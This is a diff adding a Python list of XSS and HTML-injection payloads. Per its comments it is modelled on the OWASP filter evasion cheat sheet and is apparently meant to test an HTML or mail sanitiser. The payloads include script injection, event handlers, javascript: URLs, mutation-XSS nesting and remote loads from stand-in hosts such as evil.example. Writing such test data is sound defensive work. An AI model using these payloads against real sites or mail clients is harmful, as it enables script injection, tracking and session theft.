@@ -1,0 +1,35 @@
+# ruff: noqa: E501 - a table reads best unbroken
+"""Texts that try to break out of the HTML or the mail they are put into."""
+
+# After the OWASP XSS filter evasion cheat sheet, and what helpdesks were broken with.
+HOSTILE = [
+    "<script>alert(1)</script>", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
+    "<<script>alert(1);//<</script>", "<script/x src=//evil.example>", "<scr<script>ipt>alert(1)",
+    "<img src=x onerror=alert(1)>", "<IMG SRC=javascript:alert('x')>",
+    "<img src=\"jav\tascript:alert(1)\">", "<img src=\"jav&#x0A;ascript:alert(1)\">",
+    "<img src=https://evil.example/pixel.gif>", "<img src=//evil.example/pixel.gif>",
+    "<img srcset='https://evil.example/a 1x'>", "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
+    "<img \"\"\"><script>alert(1)</script>\">", "<img/src/onerror=alert(1)>",
+    "<a href=javascript:alert(1)>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>",
+    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>", "<a href='vbscript:x'>x</a>",
+    "<a href='cid:x'>x</a>", "<a href='/settings'>x</a>", "<a href='//evil.example'>x</a>",
+    "<a href='java\0script:alert(1)'>x</a>", "<a onmouseover=alert(1)>x</a>",
+    "<b style='background:url(https://evil.example/x)'>x</b>",
+    "<b style='color:expression(alert(1))'>x</b>", "<b style='position:fixed;top:0'>x</b>",
+    "<b style='color:\\75rl(x)'>x</b>", "<b style='color:red;/**/width:1px'>x</b>",
+    "<style>@import 'https://evil.example/x.css'</style>", "<link rel=stylesheet href=//e.example>",
+    "<body onload=alert(1)>", "<body background='https://evil.example/x'>", "<base href=//e.example>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<object data=x.swf></object>", "<embed src=x.svg>", "<applet code=x>", "<form action=//e><input>",
+    "<button formaction=javascript:alert(1)>x</button>", "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<video><source onerror=alert(1)>",
+    "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>", "<xmp><img src=x onerror=x></xmp>",
+    "<table background='javascript:alert(1)'><td background=x>", "<isindex type=image src=1>",
+    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<?xml-stylesheet href='javascript:x'?>",
+    "<a id=document name=cookie class=admin>x</a>", "<p contenteditable autofocus onfocus=alert(1)>",
+    "\x00<script>alert(1)</script>", "<template><script>alert(1)</script></template>",
+]  # fmt: skip
